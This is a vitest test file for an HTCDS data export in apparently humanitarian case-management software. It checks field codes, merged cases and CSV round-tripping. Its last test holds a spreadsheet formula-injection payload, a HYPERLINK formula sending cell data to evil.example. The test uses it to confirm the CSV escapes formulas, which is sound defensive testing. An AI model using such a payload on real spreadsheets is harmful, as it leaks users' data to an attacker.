/**
 * Export in the fields of the Human Trafficking Case Data Standard, as a
 * coordinator sends it to a partner: every value Homeward holds lands in the
 * right HTCDS field with the standard's own codes, nothing is guessed, and the
 * CSV opens safely in a spreadsheet and reads back to the same values.
 */
import { describe, expect, it } from 'vitest';
import { prepare } from '../../src/db/query';
import type { PersonTable } from '../../src/db/schema';
import { isCalendarDate } from '../../src/domain/dates';
import { advanceCase } from '../../src/services/cases';
import { generateDemoPeople } from '../../src/services/demo';
import { mergePeople } from '../../src/services/duplicates/merge';
import {
  HTCDS_FIELDS,
  HTCDS_FIELD_NAMES,
  HTCDS_VERSION,
  htcdsCsv,
  htcdsCsvBytes,
  htcdsExport,
  htcdsFields,
  type HtcdsExport,
  type HtcdsField,
  type HtcdsFields,
  type HtcdsValue,
} from '../../src/services/htcds';
import { parseCsv } from '../../src/services/import/csv';
import { stripNeutralisingQuote } from '../../src/services/import/formula';
import { readListTable } from '../../src/services/import/table';
import { addPerson } from '../../src/services/people';
import { recordVerification } from '../../src/services/verification';
import { ACTOR, completePerson, newOffice, refusal } from '../helpers';

const empty = (): HtcdsFields => Object.fromEntries(HTCDS_FIELD_NAMES.map((n) => [n, null])) as HtcdsFields;

/** One CSV cell back to its JSON value, by the field's type. */
function fromCell(field: HtcdsField, cell: string): HtcdsValue {
  const value = stripNeutralisingQuote(cell);
  if (value === '') return null;
  if (field.type === 'checkbox') {
    if (value !== 'TRUE' && value !== 'FALSE') throw new Error(`${field.name}: not a checkbox value: ${value}`);
    return value === 'TRUE';
  }
  if (field.type === 'multipicklist') return value.split(';');
  return value;
}

function readBack(bytes: Uint8Array): { header: string[]; rows: HtcdsFields[] } {
  const table = readListTable(bytes, 'htcds.csv');
  expect(table.encoding).toBe('utf-8');
  expect(table.delimiter).toBe(',');
  const [header = [], ...rows] = table.rows;
  return {
    header,
    rows: rows.map((cells) => Object.fromEntries(HTCDS_FIELDS.map((f, i) => [f.name, fromCell(f, cells[i] ?? '')])) as HtcdsFields),
  };
}

describe('HTCDS export of a hand-built case', () => {
  it('puts every value Homeward holds into its HTCDS field, with the standard’s codes', () => {
    const { store } = newOffice();
    const mai = addPerson(
      store,
      ACTOR,
      completePerson({
        familyName: 'Nguyễn',
        givenNames: 'Thị Mai',
        nativeName: 'Nguyễn Thị Mai',
        sex: 'female',
        birthDate: '1998-03-07',
        claimedNationality: 'KH',
        phone: '+84 (912) 345-678',
        indicators: ['withholds_documents', 'debt_bondage', 'restricts_movement'],
        vulnerabilities: ['injured'],
        consent: { status: 'given' },
      }),
    );
    advanceCase(store, ACTOR, mai.id, 'verification', 'intake complete');
    // The embassy says she is Vietnamese: the verified nationality is the citizenship.
    recordVerification(store, ACTOR, mai.id, { method: 'embassy_list', authority: 'Embassy of Viet Nam', country: 'VN', outcome: 'confirmed', reference: 'VN-EL-7' });

    const result = htcdsExport(store, [mai.caseNumber]);
    expect(result.schema).toEqual({ name: 'HTCDS', version: HTCDS_VERSION });
    expect(result.merged).toEqual([]);
    expect(result.records).toHaveLength(1);
    const record = result.records[0]!;
    expect(record.caseNumber).toBe(mai.caseNumber);
    expect(Object.keys(record.fields)).toEqual([...HTCDS_FIELD_NAMES]);
    expect(record.fields).toEqual({
      ...empty(),
      prs_FirstName: 'Thị Mai',
      prs_SecondName: 'Nguyễn',
      prs_Birthdate: '1998-03-07',
      prs_Gender: 'Feminine',
      prs_Citizenship: 'VN',
      prs_MobilePhone: '+84912345678',
      con_Consent: true,
      vic_MethodsOfControl: ['DebtBondage', 'RestrictsMovement', 'WithholdsDocuments'],
      cas_Status: 'Active',
    });
    store.close();
  });

  it('leaves empty what Homeward does not know: a partial birth date, no Latin name, no consent, no indicators', () => {
    const { store } = newOffice();
    const zhang = addPerson(store, ACTOR, { nativeName: '张伟', birthDate: '1990', claimedNationality: 'CN' });
    const other = addPerson(store, ACTOR, completePerson({ sex: 'other', indicators: [], consent: { status: 'refused' } }));
    const overridden = addPerson(store, ACTOR, completePerson({ consent: { status: 'overridden', reason: 'Unconscious on arrival; legal basis: vital interest' } }));
    const [a, b, c] = htcdsExport(store, [zhang.id, other.caseNumber.toLowerCase(), overridden.caseNumber]).records.map((r) => r.fields);
    expect(a).toEqual({ ...empty(), prs_Gender: 'NonSpecifiedUnknown', prs_Citizenship: 'CN', cas_Status: 'Active' });
    expect(b!.prs_Gender).toBeNull();
    expect(b!.con_Consent).toBe(false);
    expect(b!.vic_MethodsOfControl).toBeNull();
    expect(c!.prs_Gender).toBe('Masculine');
    expect(c!.con_Consent).toBe(false);
    store.close();
  });

  it('a case that ended is Closed with the reason; a death is marked; a case closed after handover was referred', () => {
    const { store } = newOffice();
    const gone = addPerson(store, ACTOR, completePerson());
    const died = addPerson(store, ACTOR, completePerson({ givenNames: 'Văn Hùng', birthDate: '1988-11-30' }));
    advanceCase(store, ACTOR, gone.id, 'absconded', 'Left the shelter at night');
    advanceCase(store, ACTOR, died.id, 'deceased', 'Died in hospital in Mae Sot');
    const [a, d] = htcdsExport(store, [gone.caseNumber, died.caseNumber]).records.map((r) => r.fields);
    expect([a!.cas_Status, a!.cas_ReasonForCaseClosure, a!.prs_Deceased]).toEqual(['Closed', 'Absconded', null]);
    expect([d!.cas_Status, d!.cas_ReasonForCaseClosure, d!.prs_Deceased]).toEqual(['Closed', 'Deceased', true]);

    // `closed` is reached only through a recorded handover, which this schema does not hold yet: map the row as it will be.
    const row = prepare(store.db, 'SELECT * FROM person WHERE id = ?').get(gone.id) as PersonTable;
    const closed = htcdsFields({ ...row, stage: 'closed' }, []);
    expect([closed.cas_Status, closed.cas_ReasonForCaseClosure]).toEqual(['ClosedReferred', 'Handed over to the authorities of the home country']);
    store.close();
  });
});

describe('which cases are exported', () => {
  it('a merged-away case is exported once, as the case it was merged into, with both records’ indicators', () => {
    const { store } = newOffice();
    const passport = addPerson(store, ACTOR, completePerson({ familyName: 'NGUYEN', givenNames: 'THI MAI', nativeName: null, sex: 'female', birthDate: '1998-03-07', indicators: ['withholds_documents'] }));
    const shelter = addPerson(store, ACTOR, completePerson({ familyName: 'Nguyễn', givenNames: 'Thị Mai', sex: 'female', birthDate: '1998-03-07', indicators: ['debt_bondage'] }));
    mergePeople(store, ACTOR, { survivor: shelter.id, merged: passport.id, reason: 'same passport photo' });

    const result = htcdsExport(store, [passport.caseNumber, shelter.caseNumber, passport.id]);
    expect(result.records.map((r) => r.caseNumber)).toEqual([shelter.caseNumber]);
    expect(result.merged).toEqual([{ caseNumber: passport.caseNumber, survivor: shelter.caseNumber }]);
    expect(result.records[0]!.fields.vic_MethodsOfControl).toEqual(['DebtBondage', 'WithholdsDocuments']);
    store.close();
  });

  it('refuses the whole export when a case number finds nobody, and names every one', () => {
    const { store } = newOffice();
    const p = addPerson(store, ACTOR, completePerson());
    const e = refusal(() => htcdsExport(store, ['MSO-2026-999999', p.caseNumber, '0190f2a4-0000-7000-8000-000000000000']));
    expect(e.code).toBe('NOT_FOUND');
    expect(e.message).toContain('"MSO-2026-999999"');
    expect(e.message).toContain('"0190f2a4-0000-7000-8000-000000000000"');
    expect(e.message).toMatch(/Nothing was exported/);
    expect(e.details).toEqual({ missing: ['MSO-2026-999999', '0190f2a4-0000-7000-8000-000000000000'] });
    store.close();
  });

  it('exports nothing for an empty selection', () => {
    const { store } = newOffice();
    expect(htcdsExport(store, []).records).toEqual([]);
    store.close();
  });
});

describe('HTCDS export of a demo office', () => {
  const COUNT = 400;

  function demoExport(): { result: HtcdsExport; store: ReturnType<typeof newOffice>['store'] } {
    const { store } = newOffice();
    generateDemoPeople(store, ACTOR, { count: COUNT, seed: 20261101 });
    const ids = (prepare(store.db, 'SELECT id FROM person ORDER BY case_number').all() as { id: string }[]).map((r) => r.id);
    return { result: htcdsExport(store, ids), store };
  }

  it('uses only the standard’s codes, real dates and true/false checkboxes for hundreds of people', () => {
    const { result, store } = demoExport();
    expect(result.records).toHaveLength(COUNT);
    for (const { fields } of result.records) {
      for (const field of HTCDS_FIELDS as readonly HtcdsField[]) {
        const value = fields[field.name as keyof HtcdsFields];
        if (value === null) continue;
        switch (field.type) {
          case 'picklist':
            expect(field.codes, field.name).toContain(value);
            break;
          case 'multipicklist':
            expect(Array.isArray(value), field.name).toBe(true);
            expect((value as string[]).length).toBeGreaterThan(0);
            for (const code of value as string[]) expect(field.codes, field.name).toContain(code);
            expect(new Set(value as string[]).size).toBe((value as string[]).length);
            break;
          case 'checkbox':
            expect(typeof value, field.name).toBe('boolean');
            break;
          case 'date':
            expect(isCalendarDate(value as string), `${field.name}: ${String(value)}`).toBe(true);
            break;
          default:
            expect(typeof value, field.name).toBe('string');
        }
      }
    }
    // Every person with a recorded control indicator, and only they, carry methods of control.
    const withIndicators = (prepare(store.db, "SELECT count(DISTINCT person_id) AS n FROM indicator WHERE category = 'control' AND deleted = 0").get() as { n: number }).n;
    expect(withIndicators).toBeGreaterThan(COUNT / 10);
    expect(result.records.filter((r) => r.fields.vic_MethodsOfControl !== null)).toHaveLength(withIndicators);
    // The demo fills the mapped fields for most people.
    const filled = (name: keyof HtcdsFields) => result.records.filter((r) => r.fields[name] !== null).length;
    for (const name of ['prs_Gender', 'prs_Citizenship', 'cas_Status'] as const) expect(filled(name), name).toBeGreaterThan(COUNT * 0.8);
    store.close();
  });

  it('writes a CSV whose header is the field list and which reads back to the same values', () => {
    const { result, store } = demoExport();
    const bytes = htcdsCsvBytes(result);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = htcdsCsv(result);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(Buffer.from(text, 'utf8').equals(Buffer.from(bytes))).toBe(true);
    expect(text.split('\r\n')[0]).toBe(`\ufeff${HTCDS_FIELD_NAMES.join(',')}`);

    const back = readBack(bytes);
    expect(back.header).toEqual([...HTCDS_FIELD_NAMES]);
    expect(back.rows).toEqual(result.records.map((r) => r.fields));
    store.close();
  });
});

describe('the CSV in a spreadsheet', () => {
  it('cannot run a formula, and keeps names in every script', () => {
    const { store } = newOffice();
    const p = addPerson(
      store,
      ACTOR,
      completePerson({
        familyName: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        givenNames: '@SUM(1+1)',
        phone: '+66 81 234 5678',
      }),
    );
    const q = addPerson(store, ACTOR, completePerson({ familyName: null, givenNames: 'အောင်ကျော်မိုး', claimedNationality: 'MM' }));
    const r = addPerson(store, ACTOR, completePerson({ familyName: 'สมชาย, ใจดี', givenNames: '-Somchai', claimedNationality: 'TH' }));
    const result = htcdsExport(store, [p.id, q.id, r.id]);
    expect(result.records[0]!.fields.prs_SecondName).toBe('=HYPERLINK("http://evil.example/?"&A1,"Open")');

    const bytes = htcdsCsvBytes(result);
    const raw = parseCsv(new TextDecoder().decode(bytes), { delimiter: ',' }).rows;
    for (const row of raw) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    const col = (name: string) => HTCDS_FIELD_NAMES.indexOf(name as never);
    expect(raw[1]![col('prs_SecondName')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
    expect(raw[1]![col('prs_FirstName')]).toBe("'@SUM(1+1)");
    expect(raw[1]![col('prs_MobilePhone')]).toBe("'+66812345678");
    expect(raw[3]![col('prs_FirstName')]).toBe("'-Somchai");

    const back = readBack(bytes);
    expect(back.rows).toEqual(result.records.map((x) => x.fields));
    expect(back.rows[1]!.prs_FirstName).toBe('အောင်ကျော်မိုး');
    expect(back.rows[2]!.prs_SecondName).toBe('สมชาย, ใจดี');
    store.close();
  });
});
